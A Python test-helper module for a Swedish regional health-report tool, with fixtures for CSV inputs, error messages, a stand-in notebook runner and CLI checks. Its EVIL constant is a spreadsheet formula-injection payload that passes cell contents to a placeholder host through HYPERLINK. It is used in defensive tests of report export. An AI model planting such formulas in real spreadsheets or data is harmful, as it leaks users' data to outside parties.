"""What the bad-input tests share: a regional file written from rows, the one-line check,
a catalogue name that is a formula, and a stand-in for papermill to publish reports with.

Every bad input ends in one `fel:`-style line naming the file (and line or field), never a
traceback, a silently wrong report or a lost one (docs/bad-input.md lists every check).
"""

from __future__ import annotations

import dataclasses
import io
import json
from pathlib import Path

import nbformat
import openpyxl
import pytest

from naravard.config.catalog import load_catalog
from naravard.core.errors import NaravardError

HEADER = "indicator_id;year;gender;value;source;note"
SRC = "Region Västerbottens redovisning till Socialstyrelsen 2024, fråga 35"
ROW = f"fast_lakarkontakt_andel;2024;T;46;{SRC};"
EVIL = '=HYPERLINK("http://example.invalid/?x="&A1;"Klicka")'


def regional(tmp_path: Path, *rows: str, name: str = "vasterbotten.csv") -> Path:
    path = tmp_path / name
    path.write_text("\n".join([HEADER, *rows]) + "\n", encoding="utf-8")
    return path


def one_line_error(call, *args) -> str:
    with pytest.raises(NaravardError) as info:
        call(*args)
    message = str(info.value)
    assert "\n" not in message and len(message) < 600, message[:2000]
    return message


def evil_report(snapshot_dir: Path):
    """Västerbotten 2024 with a catalogue name that is a formula."""
    from naravard.report import region as report
    from naravard.sources.table import load_observations

    base = load_catalog()
    first = base.indicators[0]
    catalog = dataclasses.replace(
        base, indicators=(dataclasses.replace(first, name=EVIL), *base.indicators[1:])
    )
    obs = load_observations(snapshot_dir, catalog=catalog)
    return report.prepare("Västerbotten", 2024, obs=obs, catalog=catalog, figures=None)


def xlsx_cells(data: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]


def tree(root: Path) -> dict[str, bytes]:
    return {
        p.relative_to(root).as_posix(): p.read_bytes()
        for p in sorted(root.rglob("*"))
        if p.is_file()
    }


def fake_execute(notebook, parameters, output_path, **_):
    """A stand-in for papermill: a notebook with one HTML output and one chart file."""
    nb = nbformat.v4.new_notebook(
        cells=[
            nbformat.v4.new_code_cell(
                outputs=[nbformat.v4.new_output("display_data", {"text/html": "<p>Rapport</p>"})]
            )
        ]
    )
    Path(output_path).parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, str(output_path))
    figures = Path(parameters["figures_dir"])
    (figures / "diagram.svg").write_text("<svg/>", encoding="utf-8")
    return nb


def fake_report(job):
    """Render `job` with the stand-in notebook runner (no kernel), as run_job publishes it."""
    from naravard.build import pipeline

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr("naravard.build.render.execute_notebook", fake_execute)
        pipeline.run_job(job, Path("unused.pkl"))
    return job


def kolada_page(value: str) -> str:
    return (
        '{"values": [{"kpi": "N79173", "municipality": "0001", "period": 2023, '
        '"values": [{"gender": "T", "status": "", "value": ' + value + "}]}]}"
    )


def tiny_snapshot(directory: Path, rows: list[tuple[str, str, int, float]]) -> Path:
    (directory / "data").mkdir(parents=True)
    by_kpi: dict[str, list] = {}
    for kpi, code, year, value in rows:
        by_kpi.setdefault(kpi, []).append(
            {
                "kpi": kpi,
                "municipality": code,
                "period": year,
                "values": [{"gender": "T", "status": "", "value": value}],
            }
        )
    for kpi, values in by_kpi.items():
        (directory / "data" / f"{kpi}.json").write_text(
            json.dumps({"values": values}), encoding="utf-8"
        )
    return directory


def cli(capsys, *args: str) -> tuple[int, str]:
    from naravard.cli import main

    try:
        code = main(list(args))
    except SystemExit as exc:  # argparse's own usage errors
        code = exc.code
    err = capsys.readouterr().err
    assert "Traceback" not in err
    return code, err
